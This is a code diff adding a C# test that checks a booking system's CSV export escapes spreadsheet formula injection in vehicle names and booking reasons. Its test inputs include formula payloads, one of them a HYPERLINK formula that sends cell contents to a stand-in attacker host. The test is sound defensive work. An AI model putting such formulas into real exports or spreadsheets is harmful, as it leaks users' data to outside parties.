@@ -84,6 +84,41 @@ public abstract class CsvExportTests<TApp>(TApp app) : ProviderTests<TApp>(app) 
         Assert.DoesNotContain(TestData.Staff, lines[1], StringComparison.Ordinal);
     }
 
+    [Theory]
+    [InlineData("=2+5", 8)]
+    [InlineData("-2+3", 9)]
+    [InlineData("+1+1", 10)]
+    [InlineData("@SUM(1+1)", 11)]
+    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"Klicka\")", 12)]
+    [InlineData("\t=1+1", 13)]
+    public async Task Bookings_FormulaInFreeText_EveryCellEscapedForExcel(string formula, int hour)
+    {
+        var staff = await App.ClientForAsync(TestData.Staff);
+        await App.QueryAsync(db => db.Vehicles.Where(v => v.Id == App.Ids.PetrolCar).ExecuteUpdateAsync(u => u.SetProperty(v => v.Name, formula)));
+        var body = ApiCalls.Booking(App.Ids.PetrolCar, $"2026-04-21T{hour:00}:00:00+02:00", $"2026-04-21T{hour:00}:30:00+02:00", purpose: formula,
+            distanceKm: 3, carReason: formula, fossilReason: formula);
+        Assert.Equal(HttpStatusCode.Created, (await staff.BookAsync(body)).StatusCode);
+        var manager = await App.ClientForAsync(TestData.Fleet);
+
+        var csv = System.Text.Encoding.UTF8.GetString(await manager.GetByteArrayAsync("/api/exports/bookings.csv?from=2026-04-21&to=2026-04-21"));
+
+        using var reader = new CsvHelper.CsvReader(new StringReader(csv.TrimStart('\uFEFF')),
+            new CsvHelper.Configuration.CsvConfiguration(System.Globalization.CultureInfo.InvariantCulture) { Delimiter = ";" });
+        Assert.True(reader.Read() && reader.ReadHeader());
+        var rows = new List<List<string>>();
+        while (reader.Read())
+        {
+            rows.Add(Enumerable.Range(0, reader.Parser.Count).Select(i => reader.GetField(i)!).ToList());
+        }
+        var cells = Assert.Single(rows, r => r[1].EndsWith($"{hour:00}:00", StringComparison.Ordinal));
+        foreach (var column in new[] { 4, 9, 14, 15 }) // vehicle, purpose, car reason, fossil reason
+        {
+            Assert.Equal("'" + formula.Trim(), cells[column].Replace("'\t", "'", StringComparison.Ordinal));
+        }
+        Assert.DoesNotContain(cells, c => c.Length > 0 && "=+-@\t\r".Contains(c[0], StringComparison.Ordinal));
+        await App.QueryAsync(db => db.Vehicles.Where(v => v.Id == App.Ids.PetrolCar).ExecuteUpdateAsync(u => u.SetProperty(v => v.Name, "Toyota Yaris")));
+    }
+
     [Fact]
     public async Task Exports_ByRole_StaffRefusedLeadOwnShareOnly()
     {
